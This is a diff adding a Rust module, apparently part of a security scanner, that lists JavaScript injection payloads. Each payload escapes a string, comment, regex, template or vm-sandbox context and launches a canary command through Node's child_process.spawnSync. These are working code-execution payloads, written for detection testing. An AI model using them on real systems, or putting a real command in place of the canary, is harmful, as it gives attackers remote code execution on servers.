@@ -1,0 +1,72 @@
+//! Payloads for text that JavaScript evaluates.
+//!
+//! Each starts the canary with `spawnSync`, which needs no shell. `process.getBuiltinModule` is
+//! there from Node 20.16 and 22.3 on (Node documentation, "process"), `process.mainModule`
+//! wherever the main module is CommonJS. Measured on Node 16 to 24 with a CommonJS main module and
+//! on 20 to 24 with an ECMAScript one. An ECMAScript main module before Node 20.16 offers neither,
+//! and `import()` is no way out: it is refused in `vm` code and its rejection would end the function.
+
+use super::{Payload, PayloadClass};
+
+const fn javascript(id: &'static str, template: &'static str) -> Payload {
+    Payload {
+        id,
+        class: PayloadClass::JavaScriptCode,
+        template,
+    }
+}
+
+/// Best first.
+pub(super) const PAYLOADS: &[Payload] = &[
+    // The bare expression, then out of a template literal, single and double quotes: in each
+    // reading the other parts are a comment or string constants. The first part may hold no
+    // quotes, so its strings are `.source` of a regular expression and names of classes.
+    javascript(
+        "javascript-polyglot",
+        r#"constructor.constructor(/return process.getBuiltinModule||(m=>process.mainModule.require(m))/.source)()((class child_process{}).name).spawnSync((class {C}{}).name)/*${constructor.constructor(`return process.getBuiltinModule||(m=>process.mainModule.require(m))`)()(`child_process`).spawnSync(`{C}`)}'+constructor.constructor('return process.getBuiltinModule||(m=>process.mainModule.require(m))')()('child_process').spawnSync('{C}')+'"+constructor.constructor("return process.getBuiltinModule||(m=>process.mainModule.require(m))")()("child_process").spawnSync("{C}")+"*/"#,
+    ),
+    // Out of `/*…*/` and of `//…`.
+    javascript(
+        "javascript-comment",
+        "*/;(process.getBuiltinModule||(m=>process.mainModule.require(m)))('child_process').spawnSync('{C}')/*\n;(process.getBuiltinModule||(m=>process.mainModule.require(m)))('child_process').spawnSync('{C}')//",
+    ),
+    // Out of `/…/`.
+    javascript(
+        "javascript-regex",
+        "a/,(process.getBuiltinModule||(m=>process.mainModule.require(m)))('child_process').spawnSync('{C}'),/a",
+    ),
+    javascript(
+        "javascript-expression",
+        "(process.getBuiltinModule||(m=>process.mainModule.require(m)))('child_process').spawnSync('{C}')",
+    ),
+    // Short, for a field with a length limit; needs a CommonJS main module, as our client is.
+    javascript(
+        "javascript-short",
+        "process.mainModule.require('child_process').spawnSync('{C}')",
+    ),
+    javascript(
+        "javascript-short-single-quotes",
+        "'+process.mainModule.require('child_process').spawnSync('{C}')+'",
+    ),
+    // Inside a template literal whose quotes are removed or escaped.
+    javascript(
+        "javascript-template",
+        "${(process.getBuiltinModule||(m=>process.mainModule.require(m)))((class child_process{}).name).spawnSync((class {C}{}).name)}",
+    ),
+    javascript(
+        "javascript-no-quotes",
+        "(process.getBuiltinModule||(m=>process.mainModule.require(m)))((class child_process{}).name).spawnSync((class {C}{}).name)",
+    ),
+    // `vm.runInNewContext` has no `process`, but its `constructor.constructor` is our `Function`.
+    javascript(
+        "javascript-vm",
+        "constructor.constructor('return process.getBuiltinModule||(m=>process.mainModule.require(m))')()('child_process').spawnSync('{C}')",
+    ),
+    javascript(
+        "javascript-double-quotes",
+        r#""+(process.getBuiltinModule||(m=>process.mainModule.require(m)))("child_process").spawnSync("{C}")+""#,
+    ),
+];
+
+/// The form that a person understands best.
+pub(super) const CANONICAL: &Payload = &PAYLOADS[3];
